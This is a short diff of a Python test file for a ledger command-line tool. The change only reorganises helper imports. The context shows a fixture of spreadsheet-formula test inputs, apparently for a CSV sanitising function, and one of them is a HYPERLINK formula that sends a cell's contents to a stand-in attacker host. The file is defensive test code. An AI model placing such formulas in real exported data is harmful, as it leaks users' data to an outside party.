@@ -22,7 +22,8 @@ from hypothesis import strategies as st
 from homeledger.adapters.application import LedgerApplication
 from homeledger.cli.main import cli
 from homeledger.cli.render import csv_safe
-from tests.integration.test_projections import record, reference_commands
+from tests.helpers import pro_rata_commands as reference_commands
+from tests.helpers import record
 
 FORMULAS = {
     "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
